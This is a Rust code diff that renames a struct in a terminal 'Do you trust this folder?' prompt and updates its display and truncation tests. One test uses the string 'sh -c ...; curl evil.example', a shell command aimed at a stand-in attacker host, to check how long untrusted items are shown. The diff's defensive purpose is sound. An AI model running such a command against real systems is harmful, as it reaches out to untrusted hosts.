@@ -22,7 +22,7 @@ const HELP: &str = "1, y: trust these files in their current state; they can giv
 
 /// A feature of a workspace that works only if the user trusts it.
 #[derive(Debug)]
-pub struct Brings {
+pub struct TrustedFeature {
     /// Its name: `instructions for the model`.
     pub what: String,
     /// Its items: names of files, command lines, rules.
@@ -42,13 +42,13 @@ pub enum TrustAnswer {
 ///
 /// # Errors
 /// If the terminal is gone.
-pub async fn ask(root: &str, brings: &[Brings]) -> io::Result<Reply<TrustAnswer>> {
+pub async fn ask(root: &str, brings: &[TrustedFeature]) -> io::Result<Reply<TrustAnswer>> {
     let open = Arc::new(terminal::open_question());
-    let fold = |answer: &TrustAnswer| Some(folded(root, *answer));
+    let fold = |answer: &TrustAnswer| Some(folded_answer(root, *answer));
     terminal::ask(open, question_of(root, brings), Before::Dropped, read_answer, fold).await
 }
 
-fn question_of(root: &str, brings: &[Brings]) -> Dialog {
+fn question_of(root: &str, brings: &[TrustedFeature]) -> Dialog {
     Dialog {
         title: "Do you trust this folder?".to_owned(),
         subject: visible::name(root).into_owned(),
@@ -65,11 +65,11 @@ fn question_of(root: &str, brings: &[Brings]) -> Dialog {
     }
 }
 
-fn value_of(brings: &Brings) -> Value {
+fn value_of(brings: &TrustedFeature) -> Value {
     Value::new(Some(brings.what.clone()), brings.lines().join("\n"))
 }
 
-impl Brings {
+impl TrustedFeature {
     /// Returns a line for each item, safe for a terminal. Both the number and the length of the
     /// lines are limited.
     pub fn lines(&self) -> Vec<String> {
@@ -102,7 +102,7 @@ fn read_answer(line: &str) -> Result<TrustAnswer, String> {
     }
 }
 
-fn folded(root: &str, answer: TrustAnswer) -> Text {
+fn folded_answer(root: &str, answer: TrustAnswer) -> Text {
     let verdict = match answer {
         TrustAnswer::Trust => "✓ trusted: ",
         TrustAnswer::Decline => "✗ not trusted: ",
@@ -124,7 +124,7 @@ mod tests {
     fn names_are_one_line_each_and_not_endless() {
         let value = |count: usize| {
             let items = (0..count).map(|it| format!("{it}\nhint: run it")).collect();
-            value_of(&Brings { what: "files".to_owned(), items }).shown().1
+            value_of(&TrustedFeature { what: "files".to_owned(), items }).shown().1
         };
         let lines = value(4096);
         let lines: Vec<&str> = lines.lines().collect();
@@ -137,7 +137,7 @@ mod tests {
     #[test]
     fn a_long_item_shows_its_beginning_and_its_end() {
         let item = format!("sh -c '{}; curl evil.example'", "é".repeat(5000));
-        let line = &Brings { what: String::new(), items: vec![item] }.lines()[0];
+        let line = &TrustedFeature { what: String::new(), items: vec![item] }.lines()[0];
         assert!(line.starts_with("sh -c 'é") && line.ends_with("é; curl evil.example'"), "{line}");
         assert!(line.contains(" bytes … ") && line.len() < ITEM_BYTES_MAX + 100, "{line}");
     }
